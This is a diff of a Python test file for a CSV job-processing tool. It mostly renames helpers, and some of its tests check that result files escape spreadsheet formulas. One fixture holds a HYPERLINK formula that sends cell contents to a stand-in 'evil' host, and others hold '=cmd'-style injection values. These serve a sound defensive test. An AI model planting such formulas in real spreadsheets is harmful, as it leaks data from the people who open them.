@@ -10,7 +10,7 @@ import pytest
 
 from jobferry.csvfile.mapping import RESULT_COLUMNS
 from jobferry.domain.outcome import Outcome, OutcomeStatus, RecordResult
-from jobferry.domain.run import Halt, RunStatus
+from jobferry.domain.run import RunStatus, StopReason
 from jobferry.domain.timestamps import timestamp
 from jobferry.lane.state import LaneState
 from jobferry.reporting import result_files
@@ -125,12 +125,12 @@ class TestClosed:
 
     @pytest.mark.parametrize("body", ["Name,Ref", "Name,Ref\n", "Name,Ref\r\n\r\n\r\n"])
     def test_a_file_without_rows_is_complete(self, world: World, body: str) -> None:
-        run = world.carried(body)
+        run = world.processed(body)
         assert (run.status, run.rows, run.settled_rows) == (RunStatus.COMPLETED, 0, 0)
         assert table_of(world, run.run_id, "failed") == [["Name", "Ref", *RESULT_COLUMNS]]
 
     def test_a_file_that_cannot_be_used_leaves_a_report_and_no_tables(self, world: World) -> None:
-        run = world.carried(b"")
+        run = world.processed(b"")
         assert run.status is RunStatus.FAILED
         assert world.objects.keys(f"results/{run.run_id}/") == [f"results/{run.run_id}/report.html"]
 
@@ -210,7 +210,7 @@ class TestUnbalanced:
 
     def test_an_outcome_that_was_changed_after_it_was_counted(self, world: World) -> None:
         run_id = mixed(world)
-        world.ledger.rows.put(run_id, [Outcome(1, OutcomeStatus.FAILED)], 0)
+        world.store.rows.put(run_id, [Outcome(1, OutcomeStatus.FAILED)], 0)
         assert world.close(run_id)["state"] == "unbalanced"
 
     def test_the_execution_fails_loudly(self, world: World) -> None:
@@ -321,7 +321,7 @@ class TestInSteps:
 def test_what_a_balanced_run_is_called(
     outcomes: dict[str, int], halted: bool, status: RunStatus
 ) -> None:
-    run = a_run(halt=Halt("aborted", "Stopped.") if halted else None)
+    run = a_run(stop=StopReason("aborted", "Stopped.") if halted else None)
     assert final_status(run, {OutcomeStatus(name): n for name, n in outcomes.items()}) is status
 
 
@@ -334,11 +334,11 @@ class TestResultFiles:
         world.account.result_of = lambda record: RecordResult(
             OutcomeStatus.FAILED, code="Invalid", text="no"
         )
-        first = world.carried('Name,Ref,Extra\n=danger,r1,-x\n"two\nlines",r2,"a,b"\n')
+        first = world.processed('Name,Ref,Extra\n=danger,r1,-x\n"two\nlines",r2,"a,b"\n')
         mended = world.objects.get(f"results/{first.run_id}/failed.csv")
         assert b"'=danger,r1,'-x,1,failed" in mended
         world.account.result_of = lambda record: RecordResult(OutcomeStatus.SUCCEEDED, "9")
-        second = world.carried(mended)
+        second = world.processed(mended)
         assert second.status is RunStatus.COMPLETED
         assert world.account.submissions[-1].records == (
             {"name": "=danger", "ref": "r1"},
@@ -356,7 +356,7 @@ class TestResultFiles:
         self, world: World, column: str
     ) -> None:
         link = '=HYPERLINK(""http://evil/?""&A1,""x"")'
-        run = world.carried(f'Name,Ref,=Extra,{column}\n"{link}",r1,"x;=cmd",1\n')
+        run = world.processed(f'Name,Ref,=Extra,{column}\n"{link}",r1,"x;=cmd",1\n')
         header, row = table_of(world, run.run_id, "succeeded")
         assert header[:3] == ["Name", "Ref", "'=Extra"]
         assert row[:3] == ["'" + link.replace('""', '"'), "r1", "x;'=cmd"]
@@ -367,7 +367,7 @@ class TestResultFiles:
         names = ["x;'=a", "'=b", "\ufeff=c"]
         for _ in range(2):
             before = len(world.account.submissions)
-            run = world.carried(file)
+            run = world.processed(file)
             sent = [r for each in world.account.submissions[before:] for r in each.records]
             assert [record["name"] for record in sent] == names
             file = world.objects.get(f"results/{run.run_id}/succeeded.csv")
@@ -392,7 +392,7 @@ class TestResultFiles:
         self, world: World, head: str, encoding: str, name: str, marked: bool, delimiter: str
     ) -> None:
         text = f"{head}Name,Ref\n{name},r1\nb,r2\nc,r3\n".replace(",", delimiter)
-        run = world.carried(text.encode(encoding))
+        run = world.processed(text.encode(encoding))
         data = world.objects.get(f"results/{run.run_id}/succeeded.csv")
         assert data.startswith(b"\xef\xbb\xbf") is marked
         first, second, *_ = data.decode("utf-8-sig").splitlines()
@@ -401,7 +401,7 @@ class TestResultFiles:
 
     def test_a_stopped_run_has_files_too(self, world: World) -> None:
         world.account.will_reply(Act.REFUSE_PROFILE)
-        run = world.carried(things(5))
+        run = world.processed(things(5))
         assert [row[0] for row in table_of(world, run.run_id, "failed")[1:]] == [
             "thing 1",
             "thing 2",
